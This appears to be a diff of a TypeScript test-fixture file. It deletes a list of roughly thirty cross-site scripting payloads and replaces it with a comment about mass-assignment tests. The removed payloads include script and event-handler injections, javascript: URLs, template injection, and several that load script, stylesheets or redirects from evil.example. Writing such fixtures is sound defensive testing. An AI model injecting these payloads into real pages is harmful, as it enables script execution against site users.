@@ -1,38 +1,4 @@
-// What people send who mean no good, for the tests of every feature.
-
-/** Markup that runs, or breaks out of where it stands, if it is ever taken for more than text. */
-export const markup: readonly string[] = [
-  '<script>alert(1)</script>',
-  '</script><script>alert(1)</script>',
-  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
-  '<img src=x onerror=alert(1)>',
-  '<img src="x" onerror="alert(1)"',
-  '"><img src=x onerror=alert(1)>',
-  "'><img src=x onerror=alert(1)>",
-  '<svg onload=alert(1)>',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg/onload=alert`1`>',
-  '<iframe src="javascript:alert(1)">',
-  '<iframe srcdoc="<script>alert(1)</script>">',
-  '<a href="javascript:alert(1)">x</a>',
-  'javascript:alert(1)',
-  'data:text/html,<script>alert(1)</script>',
-  '<body onload=alert(1)>',
-  '<details open ontoggle=alert(1)>',
-  '<input autofocus onfocus=alert(1)>',
-  '<math><mi xlink:href="javascript:alert(1)">',
-  '<style>@import "//evil.example/x.css"</style>',
-  '<link rel=stylesheet href=//evil.example>',
-  '<meta http-equiv=refresh content="0;url=//evil.example">',
-  '<form action=//evil.example><button>x</button>',
-  '<!--<img src="--><img src=x onerror=alert(1)>',
-  '<![CDATA[<script>alert(1)</script>]]>',
-  '{{constructor.constructor("alert(1)")()}}',
-  '#{alert(1)}',
-  '&lt;script&gt;alert(1)&lt;/script&gt;',
-  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
-  '" onmouseover="alert(1)" x="',
-];
+// Bodies with more fields than a request may set, for the tests of mass assignment.
 
 const camelCase = (column: string) => column.replace(/_(\w)/g, (_, letter: string) => letter.toUpperCase());
 
